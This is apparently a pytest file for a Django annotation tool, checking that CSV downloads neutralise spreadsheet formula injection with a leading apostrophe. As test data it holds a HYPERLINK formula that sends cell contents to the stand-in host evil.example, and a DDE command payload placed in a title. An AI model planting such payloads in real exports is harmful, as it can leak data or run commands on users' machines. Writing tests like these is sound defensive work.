"""Spreadsheet formulas in CSV downloads: a cell a spreadsheet would run is written with a
leading apostrophe in every CSV download; JSON Lines and `export_corpus --raw` keep the text as stored."""
from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from concord.csv_stream import csv_lines, neutralise
from tests.factories import label_with

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"details")'


def _rows(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised(cell):
    assert neutralise(cell) == "'" + cell
    line = list(csv_lines(["c"], [[cell]]))[1]
    assert next(csv.reader(io.StringIO(line)))[0] == "'" + cell


def test_numbers_and_plain_text_are_left_alone():
    assert neutralise(-0.5) == -0.5 and neutralise("plain") == "plain" and neutralise("") == ""
    assert list(csv_lines(["c"], [["=x"]], raw=True))[1].strip() == "=x"


def test_labels_history_and_corpus_csv_neutralise_a_note(client_as, study, lead, annotator_a):
    issue = study.issues.order_by("created_at", "id").first()
    label_with(annotator_a, study, issue, "C.1", note=FORMULA)
    client = client_as(lead)
    for name, column in (("annotation:study_export_csv", "note"), ("annotation:history_csv", "note_after")):
        rows = _rows(client.get(reverse(name, args=[study.pk])))
        notes = [r[column] for r in rows if FORMULA in r[column]]
        assert notes and all(n == "'" + FORMULA for n in notes), name
    corpus = _rows(client.get(reverse("corpus:corpus_csv", args=[study.pk])))
    labels = json.loads(next(r["labels"] for r in corpus if "HYPERLINK" in r["labels"]))
    assert any(label["note"] == FORMULA for label in labels)  # inside a JSON cell, which starts with "["


def test_a_title_starting_with_a_formula_in_the_corpus(client_as, study, lead, tmp_path):
    issue = study.issues.order_by("created_at", "id").first()
    issue.title = "@cmd|' /C calc'!A0"
    issue.save()
    rows = _rows(client_as(lead).get(reverse("corpus:corpus_csv", args=[study.pk])))
    assert "'" + issue.title in [r["title"] for r in rows]
    jsonl = b"".join(client_as(lead).get(reverse("corpus:corpus_jsonl", args=[study.pk])).streaming_content)
    assert issue.title in [json.loads(line)["title"] for line in jsonl.decode().splitlines()]
    raw, safe = tmp_path / "raw.csv", tmp_path / "safe.csv"
    call_command("export_corpus", study.name, "--format", "csv", "--raw", "--output", str(raw), stdout=io.StringIO())
    call_command("export_corpus", study.name, "--format", "csv", "--output", str(safe), stdout=io.StringIO())
    assert issue.title in [r["title"] for r in csv.DictReader(raw.open(encoding="utf-8"))]
    assert "'" + issue.title in [r["title"] for r in csv.DictReader(safe.open(encoding="utf-8"))]
    assert "apostrophe" in (tmp_path / "safe.card.md").read_text(encoding="utf-8")
